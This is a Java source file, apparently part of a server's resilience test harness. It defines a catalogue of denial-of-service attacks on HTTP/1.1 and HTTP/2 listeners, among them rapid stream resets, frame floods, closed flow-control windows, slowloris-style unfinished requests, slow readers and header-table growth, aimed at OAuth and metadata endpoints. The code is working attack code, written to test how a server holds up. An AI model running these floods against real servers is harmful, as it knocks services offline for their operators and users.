package dev.gatehouse.http.assault;

import static dev.gatehouse.http.assault.Http2Bytes.CONTINUATION;
import static dev.gatehouse.http.assault.Http2Bytes.DATA;
import static dev.gatehouse.http.assault.Http2Bytes.HEADERS;
import static dev.gatehouse.http.assault.Http2Bytes.HEADER_TABLE_SIZE;
import static dev.gatehouse.http.assault.Http2Bytes.INITIAL_WINDOW_SIZE;
import static dev.gatehouse.http.assault.Http2Bytes.PING;
import static dev.gatehouse.http.assault.Http2Bytes.PRIORITY;
import static dev.gatehouse.http.assault.Http2Bytes.RST_STREAM;
import static dev.gatehouse.http.assault.Http2Bytes.SETTINGS;
import static dev.gatehouse.http.assault.Http2Bytes.UNKNOWN;
import static dev.gatehouse.http.assault.Http2Bytes.WINDOW_UPDATE;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.stream.IntStream;

/** A way to use up memory or time of a server, on each of many connections; what comes back is not read unless it says so. */
enum Assault {
    TINY_WINDOWS_ON_AN_ASSET(Way.ADMIN_HTTP_2, 100, wave(1, Targets.ASSET).then(holdHttp2())),
    TINY_WINDOWS_ON_METADATA(Way.PUBLIC_HTTP_2, 1_500, wave(1, Targets.METADATA).then(holdHttp2())),
    CLOSED_WINDOWS_ON_PAGES(Way.PUBLIC_HTTP_2, 1_500, wave(0, "/login").then(holdHttp2())),
    CLOSED_WINDOWS_ON_CONTRACTS(Way.ADMIN_HTTP_2, 500, wave(0, Targets.CONTRACT).then(holdHttp2())),
    DRIPPING_WINDOWS(Way.ADMIN_HTTP_2, 100, wave(0, Targets.ASSET).then(drip())),
    GROWING_HEADER_TABLES(Way.ADMIN_HTTP_2, 100, growingTables()),
    RAPID_RESETS(
            Way.PUBLIC_HTTP_2, 200, begun().then(for100Streams(Assault::reset)).then(holdHttp2())),
    SETTINGS_FLOOD(
            Way.PUBLIC_HTTP_2,
            500,
            begun().then(forEver(frame(SETTINGS, 0, Http2Bytes.setting(INITIAL_WINDOW_SIZE, 7))))),
    PING_FLOOD(Way.ADMIN_HTTP_2, 500, begun().then(forEver(frame(PING, 0, new byte[8])))),
    PRIORITY_FLOOD(Way.PUBLIC_HTTP_2, 200, begun().then(forEver(frame(PRIORITY, 1, new byte[5])))),
    UNKNOWN_FRAMES(Way.PUBLIC_HTTP_2, 200, begun().then(forEver(frame(UNKNOWN, 0, new byte[8])))),
    WINDOW_UPDATES(Way.ADMIN_HTTP_2, 200, begun().then(forEver(frame(WINDOW_UPDATE, 0, new byte[] {0, 0, 0, 1})))),
    EMPTY_DATA(Way.PUBLIC_HTTP_2, 200, postHead().then(forEver(frame(DATA, 1)))),
    SMALL_DATA(Way.PUBLIC_HTTP_2, 500, postHead().then(forEver(frame(DATA, 1, new byte[1])))),
    CONTINUATIONS(Way.ADMIN_HTTP_2, 200, headWithoutEnd().then(forEver(frame(CONTINUATION, 1, new byte[] {0, 0})))),
    STREAMS_WITHOUT_BODIES(Way.PUBLIC_HTTP_2, 1_500, begun().then(postHeads()).then(holdHttp2())),
    SLOW_READERS(Way.ADMIN_HTTP_1, 500, get(Targets.ASSET).then(readSlowly())),
    PIPELINES(Way.ADMIN_HTTP_1, 500, Act.send(text(Targets.ASSET).repeat(1_000)).then(hold("\r\n"))),
    PIPELINED_METADATA(
            Way.PUBLIC_HTTP_1,
            1_500,
            Act.send(text(Targets.METADATA).repeat(1_000)).then(hold("\r\n"))),
    UNFINISHED_BODIES(Way.PUBLIC_HTTP_1, 1_000, unfinishedBody().then(hold("b"))),
    UNFINISHED_HEADS(Way.ADMIN_HTTP_1, 2_000, Act.send(Targets.LONG_HEAD).then(hold("a"))),
    SILENCE(Way.ADMIN_HTTP_1, 5_000, readToEnd()),
    IDLE_KEEP_ALIVE(Way.PUBLIC_HTTP_1, 5_000, get(Targets.METADATA).then(readToEnd())),
    IDLE_HTTP2(Way.ADMIN_HTTP_2, 5_000, begun().then(readToEnd()));

    private final Way way;
    private final int connections;
    private final Act act;

    Assault(Way way, int connections, Act act) {
        this.way = way;
        this.connections = connections;
        this.act = act;
    }

    /** Which listener it goes to, and what it speaks. */
    enum Way {
        ADMIN_HTTP_1(true, "http/1.1"),
        ADMIN_HTTP_2(true, "h2"),
        PUBLIC_HTTP_1(false, "http/1.1"),
        PUBLIC_HTTP_2(false, "h2");

        private final boolean onAdmin;
        private final String protocol;

        Way(boolean onAdmin, String protocol) {
            this.onAdmin = onAdmin;
            this.protocol = protocol;
        }

        boolean isOnAdmin() {
            return onAdmin;
        }

        /** As TLS names it (RFC 7301). */
        String protocol() {
            return protocol;
        }
    }

    Way way() {
        return way;
    }

    /** How many connections take part at full size. */
    int connections() {
        return connections;
    }

    Act act() {
        return act;
    }

    /** What is asked for without a token. */
    private static final class Targets {
        static final String ASSET = "/openapi/page/swagger-ui-bundle.js";
        static final String CONTRACT = "/openapi/contract/registry.yaml";
        static final String METADATA = "/.well-known/oauth-authorization-server";
        static final String LONG_HEAD = "GET / HTTP/1.1\r\nHost: x\r\nX-Long: " + "a".repeat(15_000);
    }

    /** What is done on one connection. It ends with an exception where the server closes it. */
    interface Act {
        void on(Socket socket) throws IOException, InterruptedException;

        default Act then(Act next) {
            return socket -> {
                on(socket);
                next.on(socket);
            };
        }

        static Act send(String text) {
            return send(text.getBytes(StandardCharsets.US_ASCII));
        }

        static Act send(byte[] bytes) {
            return socket -> socket.getOutputStream().write(bytes);
        }
    }

    private interface OfStream {
        Http2Bytes of(int stream);
    }

    private static Act begun() {
        return Act.send(Http2Bytes.begin(INITIAL_WINDOW_SIZE, 1).toBytes());
    }

    private static Http2Bytes hundred(OfStream frames) {
        Http2Bytes all = new Http2Bytes();
        IntStream.range(0, 100).mapToObj(i -> frames.of(2 * i + 1)).forEach(all::then);
        return all;
    }

    /** As many requests at once as a connection may have, of whose answers no more than the window is taken. */
    private static Act wave(int window, String path) {
        byte[] requests = Http2Bytes.begin(INITIAL_WINDOW_SIZE, window)
                .then(hundred(stream -> new Http2Bytes().get(stream, path)))
                .toBytes();
        return Act.send(requests);
    }

    private static Act for100Streams(OfStream frames) {
        return Act.send(hundred(frames).toBytes());
    }

    private static Http2Bytes reset(int stream) {
        return new Http2Bytes()
                .get(stream, Targets.METADATA)
                .frame(RST_STREAM, 0, stream, (byte) 0, (byte) 0, (byte) 0, (byte) 8);
    }

    private static Http2Bytes frame(int type, int stream, byte... payload) {
        return new Http2Bytes().frame(type, 0, stream, payload);
    }

    private static Act forEver(Http2Bytes frames) {
        byte[] many = frames.times(500).toBytes();
        return socket -> {
            while (true) {
                socket.getOutputStream().write(many);
            }
        };
    }

    /** Opens each stream's window by a byte again and again. */
    private static Act drip() {
        byte[] round = hundred(stream ->
                        new Http2Bytes().frame(WINDOW_UPDATE, 0, stream, (byte) 0, (byte) 0, (byte) 0, (byte) 1))
                .toBytes();
        return socket -> {
            while (true) {
                socket.getOutputStream().write(round);
                Thread.sleep(100);
            }
        };
    }

    /** Lets the server remember as many header fields as it will, and makes it send new ones. */
    private static Act growingTables() {
        byte[] begin = Http2Bytes.begin(HEADER_TABLE_SIZE, Integer.MAX_VALUE).toBytes();
        return socket -> {
            socket.getOutputStream().write(begin);
            for (int stream = 1; ; stream += 2) {
                socket.getOutputStream()
                        .write(new Http2Bytes().get(stream, "/health/live").toBytes());
                InputStream in = socket.getInputStream();
                in.skipNBytes(Math.min(in.available(), 100_000));
                Thread.sleep(1);
            }
        };
    }

    private static Act postHead() {
        return begun().then(
                        Act.send(new Http2Bytes().postHead(1, "/oauth2/token").toBytes()));
    }

    private static Act postHeads() {
        return for100Streams(stream -> new Http2Bytes().postHead(stream, "/oauth2/token"));
    }

    private static Act headWithoutEnd() {
        byte[] block = Http2Bytes.block((byte) 0x82, Targets.METADATA);
        return begun().then(
                        Act.send(new Http2Bytes().frame(HEADERS, 0, 1, block).toBytes()));
    }

    private static String text(String path) {
        return "GET " + path + " HTTP/1.1\r\nHost: x\r\n\r\n";
    }

    private static Act get(String path) {
        return Act.send(text(path));
    }

    private static Act readSlowly() {
        return socket -> {
            socket.setReceiveBufferSize(1_024);
            while (socket.getInputStream().read() >= 0) {
                Thread.sleep(100);
            }
        };
    }

    private static Act readToEnd() {
        return socket -> socket.getInputStream().transferTo(OutputStream.nullOutputStream());
    }

    /** Sends a byte now and then that changes nothing, which finds out whether the server has closed. */
    private static Act hold(String bytes) {
        return hold(bytes.getBytes(StandardCharsets.US_ASCII));
    }

    private static Act holdHttp2() {
        return hold(
                frame(WINDOW_UPDATE, 0, (byte) 0, (byte) 0, (byte) 0, (byte) 1).toBytes());
    }

    private static Act hold(byte[] bytes) {
        return socket -> {
            for (int i = 0; ; i = (i + 1) % bytes.length) {
                Thread.sleep(500);
                socket.getOutputStream().write(bytes[i]);
            }
        };
    }

    private static Act unfinishedBody() {
        String head = "POST /oauth2/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                + "Content-Length: 1000000\r\n\r\n";
        return Act.send(head + "a=" + "b".repeat(990_000));
    }
}
